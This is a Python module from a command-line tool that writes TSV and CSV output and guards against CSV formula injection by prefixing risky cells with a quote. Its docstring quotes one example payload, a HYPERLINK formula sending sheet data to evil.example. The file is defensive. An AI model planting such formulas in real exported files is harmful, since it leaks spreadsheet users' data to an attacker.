"""TSV and CSV, written one way by every command, with cells a spreadsheet reads as text.

A command whose answer is rows (stats, matrix, vocab, conflicts, cache info) describes its
rows once, as a function from its data to `(columns, rows)`; `delimited` makes its `tsv` and
`csv` renderers from that function. Every cell is made safe the same way: control characters
become spaces (`clean`); in TSV a tab, a line break or a backslash inside a value is written
as `\\t`, `\\n`, `\\r` or `\\\\` (so a value can never start a column or a row of its own, and
the text can be read back exactly); CSV quotes such values as RFC 4180 says.

A spreadsheet opening a CSV or TSV file runs a cell that starts with `=`, `+`, `-` or `@` as
a formula (`=HYPERLINK("http://evil.example/?leak="&A1,"Click")` sends the sheet's data to
whoever wrote the record), and skips a leading tab or carriage return before deciding. So a
text cell starting with one of those characters is written with a leading `'`, which
spreadsheets read as "this is text" and do not show (the OWASP rule for CSV injection). A
plain number ("-1.5") is left as it is: a spreadsheet reads it as the number it is.
`--raw-cells` turns that rule off (only that one: TSV escapes stay) for scripts that need the
exact text; JSON is never altered.
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable, Iterable, Sequence
from typing import Any, TextIO, TypeVar

from secretome_cli.output.renderer import Renderer

T = TypeVar("T")

Rows = tuple[Sequence[str], Iterable[Sequence[object]]]
"""The column names, then the rows (one cell per column)."""

_TSV_ESCAPES = str.maketrans({"\\": "\\\\", "\t": "\\t", "\n": "\\n", "\r": "\\r"})

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""

_NUMBER = r"[-+]?[0-9]+(?:\.[0-9]+)?(?:[eE][-+]?[0-9]+)?"
"""A number, which a spreadsheet reads as one, formula start or not (compiled when first used:
a search in JSON writes no cell)."""


def clean(text: object) -> str:
    """Text safe to print: control characters, bidi controls and invisible characters shown
    as escapes (`output/sanitize.py`; what every renderer does to record text;
    `output/results.py` and others import it)."""
    from secretome_cli.output.sanitize import escape

    return escape(str(text))


def spreadsheet_cell(text: str) -> str:
    """`text` as a CSV/TSV cell no spreadsheet runs: a leading `'` before a formula start."""
    if text.startswith(FORMULA_STARTS) and not re.fullmatch(_NUMBER, text):
        return "'" + text
    return text


def cells(row: list[str], raw: bool) -> list[str]:
    """A row of text cells made safe for spreadsheets, or as it is when `raw`."""
    return row if raw else [spreadsheet_cell(c) for c in row]


def _text(value: object) -> str:
    return "" if value is None else str(value)


def _cell(value: object, raw: bool) -> str:
    """A cell's text with the formula rule applied (unless `raw`); numbers as they are."""
    if value is None or isinstance(value, (int, float)):
        return _text(value)
    text = str(value)
    return text if raw else spreadsheet_cell(text)


def tsv_cell(value: object, raw: bool = False) -> str:
    """One TSV cell: `clean`, with tabs, line breaks and backslashes escaped, and the formula
    rule applied unless `raw`."""
    return clean(_cell(value, raw).translate(_TSV_ESCAPES))


def tsv_line(cells: Iterable[object], raw: bool = False) -> str:
    """One TSV row, ended by a line break."""
    return "\t".join(tsv_cell(c, raw) for c in cells) + "\n"


def write_tsv(
    columns: Sequence[str], rows: Iterable[Sequence[object]], out: TextIO, raw: bool = False
) -> None:
    """A header line, then a line per row."""
    out.write(tsv_line(columns, raw))
    out.writelines(tsv_line(row, raw) for row in rows)


def write_csv(
    columns: Sequence[str], rows: Iterable[Sequence[object]], out: TextIO, raw: bool = False
) -> None:
    """RFC 4180 CSV: a header row, then the rows."""
    import csv  # here: a search in JSON writes no CSV

    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(columns)
    writer.writerows([clean(_cell(c, raw)) for c in row] for row in rows)
    out.write(buffer.getvalue())


def delimited(
    rows_of: Callable[[T], Rows], what: str
) -> tuple[type[Renderer[T]], type[Renderer[T]]]:
    """The `tsv` and `csv` renderers of the rows `rows_of` makes of a command's data (`what`
    names the rows, for the classes' descriptions)."""

    class Tsv(Renderer[T]):
        __doc__ = f"{what}: tab-separated, with a header line."
        name = "tsv"

        def __init__(self, raw_cells: bool = False, **_: Any) -> None:
            self.raw_cells = raw_cells
            """Write cells exactly (`--raw-cells`): no ' before a formula start."""

        def write(self, data: T, out: TextIO) -> None:
            write_tsv(*rows_of(data), out, raw=self.raw_cells)

    class Csv(Renderer[T]):
        __doc__ = f"{what}: CSV (RFC 4180), with a header row."
        name = "csv"

        def __init__(self, raw_cells: bool = False, **_: Any) -> None:
            self.raw_cells = raw_cells
            """Write cells exactly (`--raw-cells`): no ' before a formula start."""

        def write(self, data: T, out: TextIO) -> None:
            write_csv(*rows_of(data), out, raw=self.raw_cells)

    return Tsv, Csv
